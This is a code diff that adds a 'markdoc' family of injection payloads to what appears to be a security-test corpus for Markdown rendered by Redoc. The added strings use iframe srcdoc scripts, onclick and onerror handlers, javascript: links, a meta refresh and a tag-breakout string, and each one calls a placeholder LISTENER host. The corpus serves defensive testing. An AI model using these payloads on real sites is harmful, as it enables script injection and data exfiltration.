@@ -242,6 +242,19 @@ const FAMILIES: Readonly<Record<string, readonly string[]>> = {
     `[x]: ${LISTENER}/reference\n[x]`,
     '<!-- x',
   ],
+  // The tags of the Markdown that Redoc reads.
+  markdoc: [
+    `{% html name="iframe" attrs={srcdoc: "<script>parent.fetch('${LISTENER}/tag')</script>"} /%}`,
+    `{% html name="meta" attrs={httpEquiv: "refresh", content: "0; url=${LISTENER}/tag-refresh"} %}{% /html %}`,
+    `x {% #console-bank .note onclick="fetch('${LISTENER}/annotation')" %}`,
+    `[x](/y){% href="javascript:fetch('${LISTENER}/annotated-link')" %}`,
+    `"/%}{% html name="iframe" attrs={srcdoc: "<script>parent.fetch('${LISTENER}/tag-end')</script>"} /%}`,
+    `\n\`\`\`html {% process=true %}\n{% html name="object" attrs={data: "${LISTENER}/fence"} /%}\n\`\`\``,
+    `{% icon rawContent="<img src=x onerror=fetch('${LISTENER}/icon')>" /%}`,
+    '{% x',
+    '{% /html %}',
+    '{% $x.y %}{% f() %}',
+  ],
   urls: [
     ...[
       'javascript:alert(1)',
